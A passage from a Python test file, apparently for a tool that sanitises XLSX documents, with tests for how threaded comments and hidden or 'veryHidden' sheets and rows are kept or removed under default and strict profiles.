               'personId="{A}" id="{B}"><text>会話です</text></threadedComment></ThreadedComments>' % threaded,
               "application/vnd.ms-excel.threadedcomments+xml")
        p.rel("xl/worksheets/sheet1.xml", "http://schemas.microsoft.com/office/2017/10/relationships/threadedComment",
              "../threadedComments/threadedComment1.xml")
        r = self.rebuild(p, "a.xlsx", stays=["本文", "会話です", "山田"])
        self.assertFound(r, "O21", "kept")
        self.assertNotFound(r, "O17")

    def test_O22_hidden_sheets_and_rows(self):
        rows = '<sheetData><row r="1" hidden="1"><c r="A1"><v>5</v></c></row><row r="2"><c r="A2"><f>Secret!A1</f><v>77</v></c></row></sheetData>'
        p = xlsx([("Open", rows, ""), ("Secret", cells(["秘密"]), "", ' state="veryHidden"')],
                 names='<definedName name="OnSecret">Secret!$A$1</definedName>')
        r = self.rebuild(p, "a.xlsx", stays=["秘密", "veryHidden", "Secret!A1"])
        self.assertFound(r, "O22", "kept", where="Secret")
        self.assertFound(r, "O22", "kept", where="rows")
        r = self.rebuild(p, "a.xlsx", gone=["秘密", "veryHidden", "Secret", "hidden="], stays=[">77<", "<v>5</v>"], profile="strict")
        self.assertFound(r, "O22", "removed", where="Secret")


main(__name__)
